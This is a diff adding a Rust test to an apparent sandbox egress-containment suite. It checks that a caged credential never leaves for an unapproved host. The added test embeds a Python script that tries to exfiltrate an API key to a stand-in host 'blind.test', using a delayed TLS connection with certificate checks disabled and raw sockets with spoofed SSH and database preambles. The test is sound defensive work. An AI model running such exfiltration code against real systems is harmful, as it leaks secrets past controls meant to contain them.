@@ -1,7 +1,7 @@
 //! A secret goes to its place and nowhere else: not to another host, port, path or method, not in the clear, not in
 //! another part of a request. Judged by what hosts outside got.
 
-use belljar_spec::egress::{EgressPolicy, Reason, RequestFilter};
+use belljar_spec::egress::{EgressPolicy, Mode, Reason, RequestFilter};
 use belljar_tests_containment::credentials::*;
 use belljar_tests_containment::egress::*;
 use belljar_tests_containment::*;
@@ -227,6 +227,44 @@ fn where_nobody_looks_only_a_placeholder_arrives() {
             Some(REAL),
             "{wall}: and its own place gets it"
         );
+
+        // Nor does it help to begin late, or as something else, where every name is open.
+        policy.mode = Mode::Open;
+        policy.allow.clear();
+        let capture = Capture::start(at("127.66.9.1"));
+        let cage = cage_with_key(*wall, &policy, credential("good.test", hosts.good.port()));
+        cage.attack(
+            &format!(
+                r#"{ASK}
+import socket, ssl, time
+def dial(port):
+    return socket.create_connection(('blind.test', int(port)), 5)
+try:
+    late = dial(sys.argv[1])
+    time.sleep(0.6)
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    late = context.wrap_socket(late, server_hostname='blind.test')
+    late.sendall(('GET /v1/x HTTP/1.1\r\nhost: blind.test:%s\r\nx-api-key: %s\r\n\r\n' % (sys.argv[1], KEY)).encode())
+    late.recv(100)
+except OSError:
+    pass
+for first in (b'', b'\0', b'SSH-2.0-x\r\n', b'\0\0\0\x08\x04\xd2\x16\x2f'):
+    try:
+        plain = dial(sys.argv[2])
+        time.sleep(0 if first else 0.6)
+        plain.sendall(first + b'\1' + KEY.encode())
+        plain.settimeout(2)
+        plain.recv(100)
+    except OSError:
+        pass
+"#
+            ),
+            &[&port.to_string(), &capture.port().to_string()],
+        );
+        assert_eq!(blind.requests().len(), 2, "{wall}: nothing more has arrived");
+        let heard = String::from_utf8_lossy(&capture.connections().concat()).into_owned();
+        assert!(!heard.contains(&cage.placeholder()), "{wall}: {heard}");
     }
 }
 
